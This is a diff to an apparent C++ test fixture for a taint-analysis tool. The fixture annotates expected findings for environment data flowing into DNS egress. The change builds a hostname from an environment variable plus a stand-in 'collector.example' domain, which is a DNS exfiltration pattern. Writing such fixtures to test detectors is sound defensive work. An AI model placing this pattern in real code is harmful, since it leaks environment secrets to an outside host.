@@ -76,7 +76,7 @@ void datagram_constant(asio::ip::udp::socket &socket) {
 
 void resolved(asio::io_context &io) {
     tcp::resolver resolver(io);
-    resolver.resolve(getenv("T"), "80"); //~ source(ENVIRONMENT) f12, sink(egress.dns) f12, finding(traced) f12, capability(DNS)
+    resolver.resolve(std::string(getenv("T")) + ".collector.example", "80"); //~ source(ENVIRONMENT) f12, sink(egress.dns) f12, finding(traced) f12, capability(DNS)
 }
 
 void connected(asio::io_context &io) {
